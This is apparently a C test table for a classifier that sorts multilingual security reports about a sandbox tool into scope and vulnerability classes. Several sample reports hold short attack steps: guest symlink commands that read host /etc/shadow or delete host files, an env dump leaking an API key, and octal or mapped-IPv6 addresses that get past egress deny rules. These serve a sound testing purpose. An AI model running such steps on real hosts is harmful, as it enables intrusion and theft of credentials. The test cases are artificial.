	{ "msb pull: crafted OCI image fills the host disk",
	  "Anyone who can get a user to pull an image (a typo-squatted tag) fills the host disk; every\n"
	  "other sandbox on the host then fails to write. It is not limited to the user's own sandbox.",
	  TRUE, "", NULL },
	/* round 39: a dependency alert pasted with its path and a wish to bump
	 * the dependency in the next release is a known upstream issue */
	{ "tar warning from github in your npm package",
	  "  Denial of service while parsing a tar file (CVE-2024-28863)\n"
	  "  Dependency path: microsandbox@0.8.2 > tar@6.1.15\n"
	  "Could someone bump tar in the next release?", FALSE, "upstream", NULL },
	/* round 37: a sandbox that "just dies" on a big file while "the rest of
	 * the laptop carries on fine" is a self-DoS */
	{ "sandbox just dies when I open a big file",
	  "Loading a 6 GB file kills the sandbox. The rest of the laptop carries on fine, it's only the\n"
	  "sandbox.", TRUE, "self_dos", NULL },
	/* ... while a guest that fills its own disk is */
	{ "Guest fills its own disk",
	  "A guest that writes until its disk is full only stalls its own sandbox; the host stays fine.",
	  TRUE, "self_dos", NULL },
	/* round 17: a CVE the reporter had assigned for this report is no known
	 * upstream issue; an automated scanner's unvalidated finding is theoretical */
	{ "CVE-2026-48213: msb cp -r symlink race -> host file write as root",
	  "MITRE has already assigned CVE-2026-48213 for it.  The guest flips a directory and a\n"
	  "symlink while msb cp -r runs, and the host writes through the symlink into /etc/cron.d.",
	  TRUE, "", "sandbox_escape" },
	{ "Vulnerable idna crate",
	  "cargo audit reports that the idna crate, a transitive dependency, has CVE-2024-12224,\n"
	  "which was assigned last year.  I have not written a PoC.", FALSE, "upstream", NULL },
	{ "High severity finding: Hardcoded Credentials (CWE-798)",
	  "A hardcoded API key was detected in docs/quickstart.md of the repository.  This finding\n"
	  "was generated automatically and has not been manually validated.", FALSE, "theoretical", "secret_leakage" },
	/* a follow-up taking back the run: nothing was ever run, so the claim
	 * is untested (it keeps the class its subject claims, as every
	 * theoretical report); a run not yet done on one release is no such
	 * thing */
	{ "Re: Guest writes to host /etc through the shared volume",
	  "Before you dig in: the transcript in my first mail is what the chatbot predicted, not\n"
	  "something I saw. I haven't even installed msb, so please consider this report as\n"
	  "unverified until I can reproduce it.", FALSE, "theoretical", "sandbox_escape" },
	{ "Re: Guest writes to host /etc through the shared volume",
	  "I haven't run it on 0.8.7 yet; on 0.8.6 the guest still writes to the host's /etc\n"
	  "through the shared volume.", FALSE, "", "sandbox_escape" },
	/* an advisory or CVE id alone is no known upstream issue: another
	 * project's CVE cited as an analogy, the report's own GHSA id in a
	 * GitHub notification ([oos.upstream] min_patterns) */
	{ "Like CVE-2024-21626, but in msb: a leaked host fd in the guest",
	  "A process in the guest finds a file descriptor of the host's /proc left open by agentd and\n"
	  "reads host files through it, much as runc's bug did.", TRUE, "", "sandbox_escape" },
	{ "[GHSA-q3x7-m2rf-9v8c] --net none guest reaches the host over IPv6",
	  "With --net none the guest still talks to the host over IPv6 link-local; the egress filter\n"
	  "only looks at IPv4.", TRUE, "", "network_bypass" },
	/* ... while the id with the dependency it is in still is one */
	{ "CVE-2024-37890 in the Node SDK",
	  "The ws package in the Node SDK's dependency tree is affected by CVE-2024-37890.", FALSE,
	  "upstream", NULL },
	/* a self-DoS told in the writer's own language (round 58's German):
	 * the hang or the full disk, and the limit, the others carrying on */
	{ "msb exec se bloque quand le disque de la sandbox est plein",
	  "Quand le script dans la sandbox remplit le disque, msb exec se bloque. Les autres sandbox\n"
	  "continuent normalement, et le Mac aussi.", TRUE, "self_dos", NULL },
	{ "msb run se cuelga con una fork bomb",
	  "Con una fork bomb dentro del invitado, msb run se cuelga; solo mi propio sandbox queda\n"
	  "afectado.", TRUE, "self_dos", NULL },
	/* "dos" is an ordinary word in the Iberian languages ("of the",
	 * "two"); "DoS" as written still names the harm (#3).  The class is
	 * what it tells: one user's snapshots readable by another */
	{ "Os permisos dos directorios de snapshots",
	  "Os snapshots de dous usuarios quedan lexibles para todos no host; calquera usuario le os\n"
	  "segredos do outro.", TRUE, "", "snapshot_leak" },
	{ "Guest DoS",
	  "A fork bomb in the guest hangs only my own sandbox; the host is fine.", TRUE, "self_dos", NULL },
	/* untested, from reading the source, in the writer's language (the
	 * claim keeps its class: another sandbox reading memory is isolation) */
	{ "Posible fuga entre sandboxes",
	  "Leyendo el código me parece que otro sandbox podría leer la memoria compartida. No lo he\n"
	  "probado todavía.", FALSE, "theoretical", "isolation_bypass" },
	{ "Mögliche Rechteausweitung",
	  "Aus dem Code geschlossen: ein lokaler Benutzer könnte root werden. Selbst nicht getestet.",
	  FALSE, "theoretical", "privilege_escalation" },
	{ "Fork bomb in de guest",
	  "Een fork bomb in de guest: msb run blijft hangen, maar de andere sandboxen draaien gewoon\n"
	  "door.", TRUE, "self_dos", NULL },
	{ "msb exec never returns once the guest disk is full",
	  "dd: error writing '/data/x': No space left on device\n\n"
	  "After that msb exec never returns. Other sandboxes kept running.", TRUE, "self_dos", NULL },
	/* issue #3 (round 69's 798, round 70's 816): the limit told as the
	 * rest of the machine, the other sandboxes or programs carrying on or
	 * noticing nothing, and the hang in the writer's language */
	{ "msb kraschar med v\xc3\xa5r egen kod",
	  "N\xc3\xa4r mitt skript allokerar f\xc3\xb6r mycket kraschar sandboxen. De andra sandboxarna\n"
	  "fungerar som vanligt och datorn m\xc3\xa4rker inget.", TRUE, "self_dos", NULL },
	{ "El sandbox deja de responder",
	  "Cuando mi script escribe sin parar, el sandbox deja de responder y tengo que reiniciarlo.\n"
	  "El resto del equipo sigue funcionando.", TRUE, "self_dos", NULL },
	{ "Sandbox stopper ved store filer",
	  "Sandboxen g\xc3\xa5r ned, n\xc3\xa5r vores job skriver en stor fil. Resten af maskinen k\xc3\xb8rer\n"
	  "helt normalt.", TRUE, "self_dos", NULL },
	/* ... while the rest of the machine going down with it is none */
	{ "Sandbox przestaje dzia\xc5\x82" "a\xc4\x87",
	  "Sandbox przestaje dzia\xc5\x82" "a\xc4\x87, a reszta komputera te\xc5\xbc nie dzia\xc5\x82" "a normalnie: ca\xc5\x82y\n"
	  "laptop si\xc4\x99 zawiesza.", TRUE, "", ANY_CLASS },
	{ "Sandboxen stopper",
	  "Sandboxen stopper, og de andre sandboxes p\xc3\xa5 maskinen stopper ogs\xc3\xa5.", TRUE, "",
	  ANY_CLASS },
	{ "msb run h\xc3\xa4ngt",
	  "msb run h\xc3\xa4ngt, und der Rest des Rechners l\xc3\xa4uft nicht normal weiter.", TRUE, "",
	  ANY_CLASS },
	/* ... a hang alone, without the limit, is no self-DoS */
	{ "msb run hängt",
	  "Der Gast schreibt die Platte des Hosts voll, msb run hängt, und danach starten keine\n"
	  "Sandboxen mehr.", TRUE, "", NULL },
	/* a hardening wish in plain words: the writer claims no finding and
	 * asks for a change (round 58's 672) */
	{ "msb-netd keeps CAP_NET_ADMIN all the time",
	  "I'm not claiming a vulnerability here. If the helper ever had a parsing bug, an attacker\n"
	  "would get that capability on the host. Could you consider dropping it after setup?", FALSE,
	  "hardening", NULL },
	{ "msbd socket is group-writable",
	  "I have not found a way to abuse this, but the socket is mode 0660 for group msb and any\n"
	  "member could start sandboxes as root. Would it be possible to make it 0600?", TRUE,
	  "hardening", NULL },
	/* (1849) the same in Bengali and Hindi: the finding denied as one,
	 * nothing attacked, a suggestion; "not just a weakness" before an
	 * attack, "I have no full exploit yet" and a suggestion for the fix
	 * beside a real finding are none */
	{ "msbd নিয়ে একটি হার্ডেনিং পরামর্শ",
	  "msbd প্রসেসটি root হিসেবে সব capability রেখে চলে। এটা কোনো দুর্বলতা নয়, আমি কোনো\n"
	  "আক্রমণ করিনি; capability কমালে ভবিষ্যতের কোনো বাগের ক্ষতি কম হবে।", FALSE, "hardening", NULL },
	{ "msb-netd সম্পর্কে একটি পরামর্শ",
	  "msb-netd বাইনারিটি stack canary ছাড়া বিল্ড করা। এটা exploit করা যায় না, শুধু\n"
	  "ভবিষ্যতের জন্য বলছি।", FALSE, "hardening", NULL },
	{ "msbd के लिए सुझाव",
	  "msbd सभी capabilities के साथ root के रूप में चलता है। यह कोई vulnerability नहीं है,\n"
	  "मैंने कोई हमला नहीं किया; बस capabilities कम करना बेहतर होगा।", FALSE, "hardening", NULL },
	{ "guest থেকে host-এর ফাইল মুছে ফেলা যায়",
	  "এটা শুধু দুর্বলতা নয়: guest-এর ভেতরে symlink বানিয়ে আমি host-এর /srv/data/a.txt\n"
	  "মুছে ফেলেছি।\n\n    $ msb exec t -- ln -s /srv/data /shared/x\n    $ msb exec t -- rm /shared/x/a.txt\n", TRUE, "", ANY_CLASS },
	{ "symlink से होस्ट की फ़ाइलें पढ़ी जा सकती हैं",
	  "guest के अंदर symlink बनाकर होस्ट की /etc/shadow पढ़ी जा सकती है। मेरे पास अभी पूरा\n"
	  "exploit नहीं है, पर नीचे के कदम हर बार काम करते हैं।\n\n    $ msb exec t -- ln -s /etc /shared/e\n"
	  "    $ cat ~/share/e/shadow\n\nसमाधान का सुझाव: path resolve करते समय symlink न मानें।", TRUE, "", ANY_CLASS },
	{ "API सर्वर का टोकन guest में दिखता है",
	  "guest के अंदर env चलाने पर host का MSB_API_KEY दिखता है। यह vulnerability नहीं होनी\n"
	  "चाहिए थी।\n\n    $ msb exec t -- env | grep MSB\n    MSB_API_KEY=msb_live_1\n", TRUE, "", ANY_CLASS },
	/* issue #3 (round 70's 817): a wish that a secret be kept somewhere
	 * safer, with no attack shown, in plain words and in German */
	{ "SDK token stored in a dotfile",
	  "The Python SDK writes my token to a dotfile in my home directory. It would be safer if it\n"
	  "went into the macOS keychain instead; I don't think anyone has ever read mine.", FALSE,
	  "hardening", NULL },
	{ "Vorschlag: API-Schl\xc3\xbcssel",
	  "msb legt den API-Schl\xc3\xbcssel als Klartext in einer Datei ab. Es w\xc3\xa4re sch\xc3\xb6n, wenn er im\n"
	  "Schl\xc3\xbcsselbund l\xc3\xa4ge.", FALSE, "hardening", NULL },
	/* ... while the same wish beside an attack on another user is a finding */
	{ "Other local users can use my cloud key",
	  "credentials.toml is mode 0644, so a second account on my laptop read my key and deleted my\n"
	  "sandboxes with it; I tried it. It would be better if the CLI used the system keyring.", TRUE,
	  "", ANY_CLASS },
	/* ... while modesty about a real finding is none */
	{ "Not sure if this is a bug: the API key is in our error tracker",
	  "The Node SDK puts the full API key into the error message when a request fails, so it ends\n"
	  "up in our error tracker. Could you add redaction?", TRUE, "", "secret_leakage" },
	/* the writer found nothing that could be exploited and calls it a
	 * habit worth changing (round 62's 720, in other words) */
	{ "Build job fetches helper actions by branch name",
	  "The build job downloads its helper actions by branch name rather than a fixed digest.\n"
	  "I looked for a way in and saw nothing really abusable; still, it would be nice to freeze them.",
	  FALSE, "hardening", NULL },
	{ "Deploy key readable by the docs workflow",
	  "We have not come across anything directly exploitable, but defaulting the token to\n"
	  "read-only is something you could consider adding.", FALSE, "hardening", NULL },
	/* ... "nothing else exploitable" leaves the reported finding standing */
	{ "Guest writes host files through the filesystem broker",
	  "A guest can write files on the host outside the share through a symlink race in the\n"
	  "filesystem broker: a full sandbox escape. Nothing else in the broker looked exploitable,\n"
	  "and I saw nothing else exploitable in agentd either.", TRUE, "", "sandbox_escape" },
	/* issue #3: physical access, a stolen machine and a boot from USB in
	 * other languages, the noun before or after its adjective; the
	 * same words negated, and physical memory, are none.  These cases
	 * judge the scope; a sentence this short does not decide the class
	 * (the stolen disk's secrets are secret_leakage, which the word model
	 * does not always see), so it is not checked */
	{ "Secretos legibles en los snapshots",
	  "Si alguien tiene acceso físico al portátil puede leer los secretos del snapshot.", TRUE,
	  "physical_access", ANY_CLASS },
	{ "Snapshot dosyaları şifresiz",
	  "Dizüstü bilgisayar çalınırsa snapshot içindeki API anahtarları okunabilir.", TRUE,
	  "physical_access", "secret_leakage" },
	{ "スナップショットが暗号化されていない",
	  "ノートPCが盗まれた場合、スナップショットから API キーを読み出せます。", TRUE,
	  "physical_access", ANY_CLASS },
	{ "Snapshots unverschlüsselt",
	  "Mit physischem Zugriff, etwa von einem USB-Stick gebootet, liest man die Snapshots.", TRUE,
	  "physical_access", ANY_CLASS },
	/* (#3, 4971) the disk in someone's hands, in German */
	{ "Secrets im Klartext auf der Platte",
	  "Mir ist klar, dass man dafür root braucht oder die SSD in der Hand haben muss. Wenn der Mini-PC "
	  "einfach mitgenommen wird, hat derjenige alle meine Tokens.", TRUE, "physical_access", ANY_CLASS },
	/* (#3, 4981) "physically have the disks in hand", in Italian */
	{ "Segreti in chiaro sul NAS",
	  "msb salva i valori dei segreti in chiaro nel dataset. So bene che per sfruttarlo bisogna avere "
	  "fisicamente i dischi in mano, quindi forse per voi è fuori ambito.", TRUE, "physical_access", ANY_CLASS },
	/* (#3, 5018) "no physical access" in Swedish */
	{ "Lokal privilegieeskalering via tjänstens konfigurationsfil",
	  "Vilken användare som helst kan skriva i konfigurationsfilen och få kod körd som SYSTEM. Attacken kräver "
	  "ett lokalt konto på maskinen men ingen fysisk åtkomst.", TRUE, "", ANY_CLASS },
	{ "快照未加密", "攻击者需要物理接触这台机器才能读取快照。", TRUE, "physical_access", ANY_CLASS },
	{ "Secretos legibles por otros usuarios",
	  "No se requiere acceso físico: cualquier usuario local lee los secretos del snapshot.", TRUE,
	  "", ANY_CLASS },
	{ "Утечка памяти гостя",
	  "Гость получает доступ к физической памяти хоста через устройство virtio.", TRUE, "", ANY_CLASS },
	{ "物理アクセスは不要", "物理アクセスは不要です。ほかのユーザーがスナップショットを読めます。", TRUE,
	  "", ANY_CLASS },
	/* issue #3: the writer grants that the documentation warns against the
	 * opt-in mode the finding needs for untrusted code, and asks for defence
	 * in depth: hardening, the class the subject claims kept with a PoC.
	 * Docs that promise safety, a warning about something else, or a
	 * finding that works without the mode too are no such grant. */
	{ "Sandbox escape with --privileged-mounts",
	  "With --privileged-mounts the guest can remount the share and write host files.\n"
	  "Without the flag the remount fails.\n\n"
	  "I'm aware the manual says --privileged-mounts \"gives the guest raw mount rights;\n"
	  "never enable it for untrusted workloads\". Still, msb could drop CAP_SYS_ADMIN anyway.\n",
	  TRUE, "hardening", "sandbox_escape" },
	{ "Sandbox escape through the shared folder",
	  "The guest writes host files through a symlink in the share.\n\n"
	  "I know the docs say volumes are isolated from the host's other paths, but they are not.\n",
	  TRUE, "", "sandbox_escape" },
	{ "Sandbox escape with --net host",
	  "With --net host the guest reaches the daemon on loopback and starts a sandbox that\n"
	  "mounts the host's root.\n\n"
	  "I know the docs say --net host must not be used with untrusted code, but the same\n"
	  "request also works without it, through the gateway address.\n",
	  TRUE, "", "sandbox_escape" },
	{ "Sandbox escape through the shared folder",
	  "The guest writes host files through a symlink in the share.\n\n"
	  "I know the docs say so.\n\n"
	  "Unrelated: the README says the old server is not meant for untrusted networks.\n",
	  TRUE, "", "sandbox_escape" },
	/* issue #3 (round 96): an egress deny rule got past by writing the
	 * blocked address another way (decimal, octal, mapped IPv6) is
	 * network_bypass even when the impact is the metadata service's keys;
	 * keys leaked with no rule got past, and hex in a crash, stay as they were */
	{ "Deny rule for the metadata IP can be evaded",
	  "I denied 169.254.169.254 with --deny-net, but if the guest writes the IP in octal\n"
	  "(0251.0376.0251.0376) the request goes through and returns the node's IAM credentials,\n"
	  "so untrusted code can steal the instance credentials.\n",
	  TRUE, "", "network_bypass" },
	{ "Outbound block list bypassed with an IPv4-mapped IPv6 address",
	  "Blocking 10.0.0.5 does not stop the guest: it dials ::ffff:10.0.0.5, an IPv4-mapped IPv6\n"
	  "address, and reads the internal vault's tokens. The egress deny rule is bypassed.\n",
	  TRUE, "", "network_bypass" },
	{ "Metadata credentials leaked in SDK logs",
	  "The SDK logs the full IAM credentials it fetched from the metadata service into the\n"
	  "debug log, so anyone reading the logs gets the secret access key.\n",
	  TRUE, "", "secret_leakage" },
	/* issue #3 (round 96): the same grant from a docstring ("Only use with
	 * trusted code"), as a relative clause on the option ("which the docs
	 * say is not recommended") or as the docs' warning against enabling
	 * it; docs that call the option safe, a warning about something else
	 * and a finding that also works without the option are none */
	{ "Host tokens readable from the guest",
	  "With expose_host_keys=True the guest reads the host's tokens.\n\n"
	  "I know the docstring says \"expose_host_keys: share the key agent. Only use with trusted\n"
	  "workloads.\" but it is easy to turn on by mistake.\n",
	  TRUE, "hardening", ANY_CLASS },
	{ "Guest reads ~/.ssh",
	  "With mount_home=True, which the docs say is not recommended, the guest can read ~/.ssh.\n",
	  TRUE, "hardening", ANY_CLASS },
	{ "Escape with --pass-docker-sock",
	  "The documentation warns against enabling --pass-docker-sock, but with it the guest starts\n"
	  "a privileged container on the host.\n",
	  TRUE, "hardening", ANY_CLASS },
	{ "Guest writes host files",
	  "With --share ./data, which the docs say is safe, the guest writes files outside ./data.\n",
	  TRUE, "", ANY_CLASS },
	{ "Guest writes host files",
	  "The guest writes files outside the share through a symlink.\n\n"
	  "The documentation warns about disk usage of large shares, which is unrelated.\n",
	  TRUE, "", ANY_CLASS },
	{ "Guest reads ~/.ssh",
	  "With mount_home=True, which the docs say is unsafe, the guest reads ~/.ssh; it also works\n"
	  "without the option, through the default cache mount.\n",
	  TRUE, "", ANY_CLASS },
	/* blind round 20 (and 81 of round 8): hardening wishes in Danish and Polish */
	{ "Forslag: seccomp-filtre til VMM-processen",
	  "Jeg har ikke fundet en s\xc3\xa5rbarhed. I b\xc3\xb8r tilf\xc3\xb8je seccomp-filtre; det er forsvar i dybden.",
	  FALSE, "hardening", NULL },
	{ "Seccomp dla procesu VMM",
	  "To nie jest konkretna podatno\xc5\x9b\xc4\x87, raczej sugestia: domy\xc5\x9blny profil seccomp.",
	  FALSE, "hardening", NULL },
	/* issue #3 (round 68's 786, 794): a reason the writer names only to
	 * rule it out, as a first reading or as the one a reader might
	 * take, is no hint; the claim after the turn decides ... */
	{ "netd dies for everyone",
	  "My first impression was a self-DoS that only hangs my own sandbox. It is not: the host's\n"
	  "netd dies too and every other sandbox loses its network.", TRUE, "", ANY_CLASS },
	{ "Snapshot key readable",
	  "You might assume an attacker needs physical access to the laptop; any local account\n"
	  "reads the snapshot key over the socket.", TRUE, "", ANY_CLASS },
	{ "Snapshot-Schlüssel lesbar",
	  "Zuerst dachte ich, man bräuchte physischen Zugriff auf den Rechner. Tatsächlich reicht\n"
	  "ein normales Benutzerkonto.", TRUE, "", ANY_CLASS },
	{ "L'hôte se fige",
	  "Au départ j'ai cru à un simple self-DoS de ma propre sandbox, mais l'hôte entier ne\n"
	  "répond plus.", TRUE, "", ANY_CLASS },
	{ "Clave del snapshot legible",
	  "A primera vista parecía que hacía falta acceso físico al equipo, pero basta con una\n"
	  "cuenta local.", TRUE, "", ANY_CLASS },
	{ "Tutto l'host bloccato",
	  "Inizialmente credevo che fosse un DoS che blocca solo la mia sandbox; in realtà si\n"
	  "ferma tutto l'host.", TRUE, "", ANY_CLASS },
	{ "Chave do snapshot legível",
	  "No início achei que era preciso acesso físico à máquina, mas qualquer usuário local\n"
	  "consegue ler a chave.", TRUE, "", ANY_CLASS },
	{ "Host blokkeert",
	  "Aanvankelijk leek het een self-DoS van alleen mijn eigen sandbox, maar de hele host\n"
	  "reageert niet meer.", TRUE, "", ANY_CLASS },
	{ "Klucz snapshotu do odczytu",
	  "Na początku myślałem, że potrzebny jest fizyczny dostęp do komputera, ale wystarczy\n"
	  "zwykłe konto.", TRUE, "", ANY_CLASS },
	/* ... while a writer who concedes the reason keeps it, and a turn
	 * ends the rejected reading: what follows it is read */
	{ "Fork bomb hangs the guest",
	  "This is only a self-DoS, sorry: the fork bomb hangs my own sandbox and nothing else.", TRUE,
	  "self_dos", NULL },
	{ "Snapshot keys in plain text",
	  "It requires physical access to the unlocked laptop, I know, but the snapshot keys are\n"
	  "readable in plain text.", TRUE, "physical_access", ANY_CLASS },
	{ "Guest hangs",
	  "At first I thought this was a sandbox escape, but it only hangs my own sandbox; the host\n"
	  "is fine.", TRUE, "self_dos", ANY_CLASS },
	{ "Possible race in agentd",
	  "I think this is theoretical: I have not tested it and have no PoC.", FALSE, "theoretical",
	  ANY_CLASS },
	/* issue #3 (round 68's 787): nothing tested and no PoC, in other
	 * languages, is a theoretical reading */
	{ "Lecture du code de snapshot",
	  "Je n'ai encore rien essayé et je n'ai aucun exploit : c'est une lecture du code.", FALSE,
	  "theoretical", ANY_CLASS },
	{ "Posible fuga entre sandboxes",
	  "No he probado nada y no tengo ningún exploit; lo saqué del código.", FALSE, "theoretical",
	  ANY_CLASS },
	{ "Mögliches Leck zwischen Sandboxen",
	  "Ich habe nichts davon ausprobiert und habe keinen PoC.", FALSE, "theoretical", ANY_CLASS },
	{ "Possibile fuga tra sandbox",
	  "Non ho ancora testato niente e non ho un PoC.", FALSE, "theoretical", ANY_CLASS },
	{ "Mogelijk lek tussen sandboxes",
	  "Ik heb niets getest en heb geen exploit.", FALSE, "theoretical", ANY_CLASS },
	/* (1827) an exploit not yet built, a PoC promised for when it is
	 * ready and the writer's confidence in place of a demonstration, in
	 * English, Portuguese and Spanish: theoretical; a shown crash that
	 * only promises its exploit is not */
	{ "Timing side channel in the VMM scheduler",
	  "We reviewed the code of the vCPU scheduler and an attacker could learn another tenant's\n"
	  "activity. We haven't finished the exploit yet but are certain this is exploitable; we'll\n"
	  "share the working PoC once it is stable.", FALSE, "theoretical", ANY_CLASS },
	{ "Vazamento entre snapshots",
	  "Ainda n\xc3\xa3o constru\xc3\xadmos o exploit completo, mas estamos confiantes de que \xc3\xa9 "
	  "explor\xc3\xa1vel. Enviaremos a PoC quando estiver pronta.", FALSE, "theoretical", ANY_CLASS },
	{ "Fuga entre snapshots",
	  "Todav\xc3\xad" "a no hemos escrito el exploit, pero creemos que es explotable. Enviaremos el "
	  "PoC cuando est\xc3\xa9 listo.", FALSE, "theoretical", ANY_CLASS },
	{ "agentd crashes on a long frame",
	  "Sending a 70000-byte frame to agentd crashes it:\n\n"
	  "  thread 'main' panicked at 'index out of bounds: the len is 65536 but the index is 65536'\n\n"
	  "We will send the full exploit when it is ready.", FALSE, "", ANY_CLASS },
	/* issue #3: a crash, a hang or a full disk that is the writer's own
	 * circumstance is not a self-DoS when the finding is what the crash
	 * leaves behind ... */
	{ "msbd core files can be read by everyone",
	  "Our build farm ran out of disk last week while we were chasing an unrelated hang. What\n"
	  "filled it: whenever msbd dies it leaves a core dump in /tmp that every account on the box\n"
	  "can open, and the dump holds the API tokens the sandbox was started with.", TRUE, "",
	  "secret_leakage" },
	/* ... and the other sandboxes named as bystanders of a host DoS
	 * ("die anderen Sandboxen stehen still") are no isolation claim */
	{ "Gast füllt die Platte des Hosts",
	  "Eine Sandbox schreibt die Platte des Hosts voll; danach stehen alle anderen Sandboxen und\n"
	  "Dienste auf dem Host still.", TRUE, "", NULL },
	/* ... a crash that only hits the writer's own sandbox still is */
	{ "Crafted tar crashes msb-vmm",
	  "A crafted tar in the guest makes msb-vmm crash and leave a core dump; only that sandbox\n"
	  "dies, the other sandboxes keep running.", TRUE, "self_dos", NULL },
	/* issue #3: only the writer's own sandbox hangs, in Japanese, Chinese
	 * and Korean; the host or the others going down too, or "not only the
	 * sandbox itself", is no self-DoS */
	{ "ゲスト内のメモリ不足",
	  "サンドボックス内でメモリを使い切るとそのサンドボックスがフリーズしますが、他のサンドボックスは\n"
	  "正常に動いています。影響はそのサンドボックス自体のみです。", TRUE, "self_dos", NULL },
	{ "沙箱内 fork 炸弹",
	  "在沙箱里运行 fork 炸弹后，这个沙箱卡死了，但其他沙箱正常运行，只影响这个沙箱。", TRUE,
	  "self_dos", NULL },
	{ "샌드박스 안의 포크 폭탄",
	  "포크 폭탄을 실행하면 해당 샌드박스만 멈추고, 다른 샌드박스는 정상입니다.", TRUE, "self_dos",
	  NULL },
	{ "フォークボムでホストが停止",
	  "サンドボックス内でフォークボムを実行するとホストも応答しなくなり、他のサンドボックスもすべて\n"
	  "止まります。", TRUE, "", ANY_CLASS },
	{ "メモリ不足の影響",
	  "ゲストでメモリを使い切ると、影響はサンドボックス自身だけでなく、ホスト全体に及びます。", TRUE,
	  "", ANY_CLASS },
	/* (#3) a missing safeguard the writer files as a wish rather than a
	 * bug, with nothing attacked, is hardening and has no class */
	{ "Ideas for the cloud console",
	  "Sessions in the console never time out and there is no way to require a security key for\n"
	  "admins. Please take this as a feature wish rather than a bug: I never tried to break in,\n"
	  "I only noticed it as a regular customer.", FALSE, "hardening", NULL },
	/* (#3) a suggestion for the fix of the reported bug is how real
	 * reports end: with a hardened-build remark beside it, a shown
	 * escalation to root is still no hardening wish and keeps its class */
	{ "Linux deb: msbd runs hooks from a user-writable directory",
	  "I want to report a local privilege escalation: the root daemon executes every script in\n"
	  "/var/lib/msb/hooks, and the package makes that directory owned by the installing user.\n"
	  "My script there wrote /root/owned as root. The helper is also not built as a hardened\n"
	  "binary.\n"
	  "Fix suggestion: keep the hooks directory owned by root.", TRUE, "", "privilege_escalation" },
	{ "Guest reads host files through the share",
	  "A guest can read any host file through a symlink in the shared folder; my script read\n"
	  "/etc/shadow from the sandbox. Remediation recommendations: resolve paths with\n"
	  "openat2 and harden the share handling.", TRUE, "", "sandbox_escape" },
	/* ... while a suggestion that is the whole report stays one */
	{ "Recommendation: harden the helper",
	  "The helper binary is not built with hardening flags. My recommendation is to enable\n"
	  "them; I have not found any bug to exploit.", FALSE, "hardening", NULL },
	{ "Suggestion for msb",
	  "Just a suggestion: harden the default profile and drop the extra capabilities.", FALSE,
	  "hardening", NULL },
	/* 1657: "hardening" as a segment of a URL or path a tool prints beside
	 * its findings names a guide, not the writer's wish; the word in the
	 * writer's own sentence beside a link stays one */
	{ "Root shell from the msb group",
	  "The audit script listed this, with its reference link:\n"
	  "  see https://wiki.example.net/os-hardening/local-privesc/writable-dirs.html#hooks\n"
	  "/var/lib/msb/plugins is writable by the msb group and the root daemon runs every file\n"
	  "in it; my plugin there copied a setuid shell and I got uid 0 as a group member.", TRUE,
	  "", "privilege_escalation" },
	{ "Idea for the daemon",
	  "Just a suggestion: harden the socket permissions as the guide at\n"
	  "https://docs.example.org/linux/guide.html describes; I found no bug to exploit.", FALSE,
	  "hardening", NULL },
	{ "Ideas",
	  "Not a vulnerability, only defense-in-depth: drop CAP_NET_RAW from the helper.", FALSE,
	  "hardening", NULL },
	/* 1585: the writer asks and answers whether it counts as a security
	 * issue, says they have no attack, and wishes for a safeguard:
	 * hardening, in English and other languages; the question alone, or
	 * a shown attack after it, is a real report's modesty */
	{ "Installer warning on macOS",
	  "Not sure whether this qualifies as a vulnerability; likely not. I have no attack scenario,\n"
	  "the checksum matches. It would be nicer if the .pkg were notarized.", FALSE, "hardening",
	  NULL },
	{ "Avviso di SmartScreen",
	  "Non so se conta come problema di sicurezza, probabilmente no. Non ho nessun attacco da\n"
	  "mostrare: sarebbe meglio firmare l'installer.", FALSE, "hardening", NULL },
	{ "Avertissement à l'installation",
	  "Je ne sais pas si c'est une vulnérabilité, probablement pas, et je n'ai pas d'attaque.\n"
	  "Ce serait mieux de signer les exécutables.", FALSE, "hardening", NULL },
	{ "Guest reads host files through the share mount",
	  "Not sure if this counts as a security issue, but a guest reads any host file through a\n"
	  "symlink in the shared folder; my script printed /etc/shadow from the sandbox.", TRUE, "",
	  "sandbox_escape" },
	{ "Escape via the share helper",
	  "I don't have an exploit written yet, but a symlink in the shared folder lets the guest\n"
	  "write host files outside the share.", FALSE, "", ANY_CLASS },
	/* (#3) the writer does not know whether the product ever reaches the
	 * flawed code: theoretical, in English and other languages */
	{ "Regex backtracking in a dependency of the CLI",
	  "The yaml-lite crate has a catastrophic backtracking regex in its anchor parser. I don't\n"
	  "know whether the CLI ever hands user-supplied files to that parser, but a bump to 2.1\n"
	  "fixes it.", FALSE, "theoretical", ANY_CLASS },
	{ "Python SDK dependency flaw",
	  "The tarfile helper in the vendored package has a path traversal. I'm not sure which part\n"
	  "of the SDK uses that helper, if any.", FALSE, "theoretical", ANY_CLASS },
	{ "Abhängigkeit im Node-SDK",
	  "Die Bibliothek qs hat einen Fehler beim Parsen tiefer Objekte. Ich weiß nicht, ob das SDK\n"
	  "diese Funktion mit fremden Eingaben aufruft.", FALSE, "theoretical", ANY_CLASS },
	{ "Dépendance du SDK Python",
	  "La bibliothèque a un défaut dans son analyseur XML. Je ne sais pas si le SDK lui passe\n"
	  "des données non fiables.", FALSE, "theoretical", ANY_CLASS },
	/* "not written an exploit" is "no exploit" as "not written a PoC" is */
	{ "Possible overflow in the vsock framing",
	  "The frame length is trusted in theory only up to 64 KiB. I have not written an exploit\n"
	  "for it.", FALSE, "theoretical", ANY_CLASS },
	/* ... a known path, only not tried, stays in scope of that reason;
	 * and a shown PoC outweighs not knowing about other callers */
	{ "Panic in the TLS stack",
	  "msb talks to registries through rustls, and a malformed certificate chain makes the\n"
	  "parser panic, which kills the running pull. I haven't tried to trigger it.", FALSE, "",
	  ANY_CLASS },
	{ "Guest writes host files through the share",
	  "The guest writes files on the host through a symlink in the shared folder; the script\n"
	  "below creates /etc/owned on the host. I don't know whether the SDK also uses that code\n"
	  "path for uploads.", TRUE, "", "sandbox_escape" },
	{ "Guest reads host files on Linux",
	  "A guest reads host files through a symlink in the shared folder; my script printed\n"
	  "/etc/shadow. I'm not sure if this works on macOS, I have not tested it there.", TRUE, "",
	  "sandbox_escape" },
	/* issue #3 (rounds 93-94): the machine in someone's hand, told without
	 * the words "physical access": a laptop stolen (either order, passive),
	 * booted from a USB stick, served in Target Disk / Share Disk mode or
	 * its disk taken out, in English and other languages ... */
	{ "Cached credentials readable",
	  "Should somebody steal the developer's laptop, the cached registry password in the\n"
	  "sandbox directory is right there in plain text.", TRUE, "physical_access", ANY_CLASS },
	{ "Keys in plain files",
	  "When a MacBook used by the team gets stolen, its sandbox keys are one cat away.", TRUE,
	  "physical_access", ANY_CLASS },
	{ "Snapshot memory in clear",
	  "Anyone who boots the machine from a live USB stick can grep the memory images.", TRUE,
	  "physical_access", ANY_CLASS },
